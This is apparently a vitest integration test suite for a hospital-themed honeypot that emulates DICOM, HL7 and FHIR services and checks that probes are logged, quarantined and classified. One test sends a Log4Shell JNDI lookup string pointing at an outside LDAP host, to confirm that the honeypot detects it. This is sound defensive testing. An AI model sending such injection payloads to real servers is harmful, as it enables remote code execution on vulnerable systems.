import { writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { House } from '../../services/honeypots/test-house.ts';
import { freePort, Lab } from '../probing/lab.ts';
import { run } from './clients.ts';

// Decoys with the programs that a hospital has: dcmtk, HL7 senders, curl.

const lab = new Lab();
let house: House;
let dicom: number;
let hl7: number;
let viewer: number;
let fhir: number;

beforeAll(async () => {
  house = await House.open();
  [dicom, hl7, viewer, fhir] = (await Promise.all([1, 2, 3, 4].map(freePort))) as [number, number, number, number];
  const others = await Promise.all([1, 2, 3, 4, 5].map(freePort));
  await house.decoy('pacs-archive', { 104: dicom, 80: viewer, 22: others[0] ?? 0 });
  await house.decoy('interface-engine', { 2575: hl7, 8080: others[1] ?? 0, 22: others[2] ?? 0 });
  await house.decoy('ehr-server', { 80: others[3] ?? 0, 443: others[4] ?? 0, 8080: fhir });
});
afterAll(async () => {
  await house.close();
  await lab.stop();
});

describe('the picture archive', () => {
  it('answers C-ECHO of dcmtk', async () => {
    const { status, output } = await run('echoscu', [
      '-v',
      '-aet',
      'CT_7',
      '-aec',
      'ARCHIVE1',
      '127.0.0.1',
      String(dicom),
    ]);
    expect(output).toContain('Received Echo Response (Success)');
    expect(status).toBe(0);
  });

  it('finds invented patients for findscu, in both roots, and tells who searched for what, without a value', async () => {
    const keys = [
      '-k',
      'QueryRetrieveLevel=STUDY',
      '-k',
      'PatientName=*',
      '-k',
      'PatientID',
      '-k',
      'StudyDate=20200101-',
    ];
    const study = await run('findscu', ['-v', '-S', '-aet', 'THIEF', '127.0.0.1', String(dicom), ...keys]);
    expect(study.output.match(/\(0010,0010\) PN \[\w+\^\w+/g)?.length).toBeGreaterThan(50);
    const one = await run('findscu', [
      '-P',
      '-v',
      '127.0.0.1',
      String(dicom),
      '-k',
      'QueryRetrieveLevel=PATIENT',
      '-k',
      'PatientName=Secretname*',
    ]);
    expect(one.output).not.toContain('Find Response: 1 ');
    expect(one.status).toBe(0);
    const session = await house.session(({ events }) => events.some(({ text }) => text.includes('PATIENT level')));
    expect(JSON.stringify(session)).not.toContain('Secretname');
    expect(session.events.map(({ text }) => text)).toContain('C-FIND PATIENT level; by PatientName');
    expect(session.techniques).toContain('T1213');
  });

  it('is asked by movescu for pictures, and calls nobody', async () => {
    const calls: string[] = [];
    const listener = await listen((remote) => calls.push(remote));
    const keys = ['-k', 'QueryRetrieveLevel=STUDY', '-k', 'StudyInstanceUID=1.2.3'];
    const { output } = await run('movescu', [
      '-v',
      '-S',
      '-aem',
      'EVIL',
      '--port',
      String(await freePort()),
      '127.0.0.1',
      String(dicom),
      ...keys,
    ]);
    expect(output).toMatch(/MoveDestinationUnknown|0xa801/i);
    const session = await house.session(({ events }) => events.some(({ kind }) => kind === 'reach-out'));
    expect(session.events.find(({ kind }) => kind === 'reach-out')?.data?.destination).toBe('EVIL');
    expect(calls).toEqual([]);
    listener.close();
  });

  it('takes what storescu sends into the quarantine, sealed, and gives it to nobody without the right', async () => {
    const folder = await lab.folder({ 'page.txt': 'Invented' });
    const object = join(folder, 'object.dcm');
    await writeFile(join(folder, 'dump.txt'), DUMP);
    await run('dump2dcm', [join(folder, 'dump.txt'), object]);
    const { output, status } = await run('storescu', ['-v', '127.0.0.1', String(dicom), object]);
    expect(output).toContain('Received Store Response (Success)');
    expect(status).toBe(0);
    const { samples, techniques } = await house.session(
      (session) => session.samples.length > 0 && session.protocol === 'dicom',
    );
    expect(samples[0]?.kind).toBe('DICOM object');
    expect(techniques).toContain('T1565.001');
    const answer = await house.ask<Response>('downloadDecoySample', { params: { sha256: samples[0]?.sha256 ?? '' } });
    const kept = join(folder, 'kept.dcm');
    await writeFile(kept, Buffer.from(await answer.arrayBuffer()));
    expect((await run('dcmdump', [kept])).output).toContain('Quarantine^Test');
    const blobs = await run('grep', ['-rlaF', 'Quarantine^Test', house.folder]);
    expect(blobs.output).toBe('');
  });

  it('is an archive in the eyes of nmap', async () => {
    const { output } = await run('nmap', ['-Pn', '-sT', '--script', '+dicom-ping', '-p', String(dicom), '127.0.0.1']);
    expect(output).toContain('DICOM Service Provider discovered');
  });
});

describe('the interface engine', () => {
  it('acknowledges a message over MLLP and keeps of it no word about a patient', async () => {
    const message =
      'MSH|^~\\&|LAB|LAB1|X|Y|20261130||ORU^R01|MSG00042|P|2.5\rPID|1||4711||Zzyzxname^Anna\rOBX|1|ST|GLU||5.5\r';
    const answer = await exchange(hl7, Buffer.from(`\x0b${message}\x1c\r`, 'latin1'));
    expect(answer).toMatch(/MSA\|AA\|MSG00042/);
    const session = await house.session(({ protocol, events }) => protocol === 'hl7' && events.length > 0);
    expect(JSON.stringify(session)).not.toContain('Zzyzxname');
    expect(session.events.map(({ text }) => text)).toContain('ORU R01 message of 3 segments: MSH, PID, OBX');
    const alert = await house.alert(({ message: text }) => text.includes('talks hl7'));
    expect(alert).toMatchObject({ kind: 'decoy', severity: 'high' });
    expect(alert.subjects[0]).toEqual({ role: 'actor', type: 'ip', value: '127.0.0.1' });
    expect(alert.evidence[0]).toMatchObject({ kind: 'session', id: session.id });
  });
});

describe('the health record', () => {
  it('lets curl read invented patients over FHIR', async () => {
    const statement = await run('curl', ['-s', `http://127.0.0.1:${fhir}/fhir/metadata`]);
    expect(JSON.parse(statement.output)).toMatchObject({ resourceType: 'CapabilityStatement', fhirVersion: '4.0.1' });
    const bundle = JSON.parse((await run('curl', ['-s', `http://127.0.0.1:${fhir}/fhir/Patient?_count=5`])).output);
    expect(bundle.entry).toHaveLength(5);
    expect(bundle.total).toBeGreaterThan(50);
    const { id } = bundle.entry[0].resource;
    const one = await run('curl', ['-s', `http://127.0.0.1:${fhir}/fhir/Patient/${id}`]);
    expect(JSON.parse(one.output)).toEqual(bundle.entry[0].resource);
    const session = await house.session(({ events }) =>
      events.some(({ text }) => text === 'search for Patient, everybody'),
    );
    expect(session.tools[0]).toMatch(/^curl/);
  });

  it('has a log-on for a web viewer that notes what was tried and lets nobody in at once', async () => {
    const url = `http://127.0.0.1:${viewer}/viewer/login`;
    expect((await run('curl', ['-s', '-L', `http://127.0.0.1:${viewer}/`])).output).toContain('Sign in');
    const tried = await run('curl', ['-s', '-d', 'username=radadmin&password=Sommer2024', url]);
    expect(tried.output).toContain('Invalid user name or password');
    await house.session(({ events }) => events.some(({ data }) => data?.user === 'radadmin'));
    const open = await house.ask<{ items: { user: string; secret: string }[] }>('listDecoyCredentials');
    expect(open.items).toContainEqual(expect.objectContaining({ user: 'radadmin', secret: 'Sommer2024' }));
    const masked = await house.ask<{ items: { secret: string }[] }>('listDecoyCredentials', {
      permissions: ['decoys:read'],
    });
    expect(JSON.stringify(masked)).not.toContain('ommer2024');
  });

  it('recognises an attack on a weakness', async () => {
    await run('curl', ['-s', '-A', `$${'{jndi:ldap://203.0.113.9/a}'}`, `http://127.0.0.1:${viewer}/viewer`]);
    const session = await house.session(({ urls, endedAt }) => urls.length > 0 && endedAt !== null);
    expect(session).toMatchObject({ visitor: 'malware', severity: 'critical', urls: ['ldap://203.0.113.9/a'] });
    expect(session.techniques).toContain('T1210');
  });
});

const DUMP = `(0008,0016) UI =SecondaryCaptureImageStorage
(0008,0018) UI [1.2.826.0.1.3680043.8.498.1]
(0010,0010) PN [Quarantine^Test]
(0010,0020) LO [X1]
(0020,000d) UI [1.2.826.0.1.3680043.8.498.2]
(0020,000e) UI [1.2.826.0.1.3680043.8.498.3]
`;

async function listen(called: (remote: string) => void) {
  const { createServer } = await import('node:net');
  const server = createServer((socket) => {
    called(socket.remoteAddress ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return server;
}

function exchange(port: number, bytes: Buffer): Promise<string> {
  return new Promise((done, fail) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes));
    let answer = '';
    socket.on('data', (part) => {
      answer += part.toString('latin1');
      if (answer.endsWith('\x1c\r')) socket.end();
    });
    socket.on('close', () => done(answer));
    socket.on('error', fail);
  });
}
